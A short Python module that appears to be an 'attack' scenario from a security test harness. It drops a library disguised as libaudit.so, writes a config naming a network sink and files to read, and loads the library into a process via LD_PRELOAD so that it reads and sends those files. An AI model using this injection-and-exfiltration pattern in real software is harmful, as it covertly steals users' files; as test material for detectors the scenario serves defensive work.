# SPDX-License-Identifier: GPL-3.0-or-later
"""A library that the product leaves where a service of the host loads it: inside the service, it reads and sends."""
import os
import random
import shutil
import subprocess
import time

KIND = "attack"


def stranger(world):
    library = os.path.join(world["scratch"], "libaudit.so")
    open(os.path.join(world["scratch"], "ready"), "w").close()
    while not os.path.exists(library):
        time.sleep(0.05)
    subprocess.run(["/bin/sleep", "1"], env={"LD_PRELOAD": library}, check=True)


def product(world):
    library = os.path.join(world["scratch"], "libaudit.so")
    address, port = random.Random(world["seed"]).choice(world["sinks"])
    with open(library + ".conf", "w", encoding="utf-8") as file:
        file.write("\n".join([address, str(port), *world["files"]]) + "\n")
    shutil.copy(os.path.join(world["built"], "hook.so"), library + ".new")
    os.rename(library + ".new", library)
    time.sleep(3)
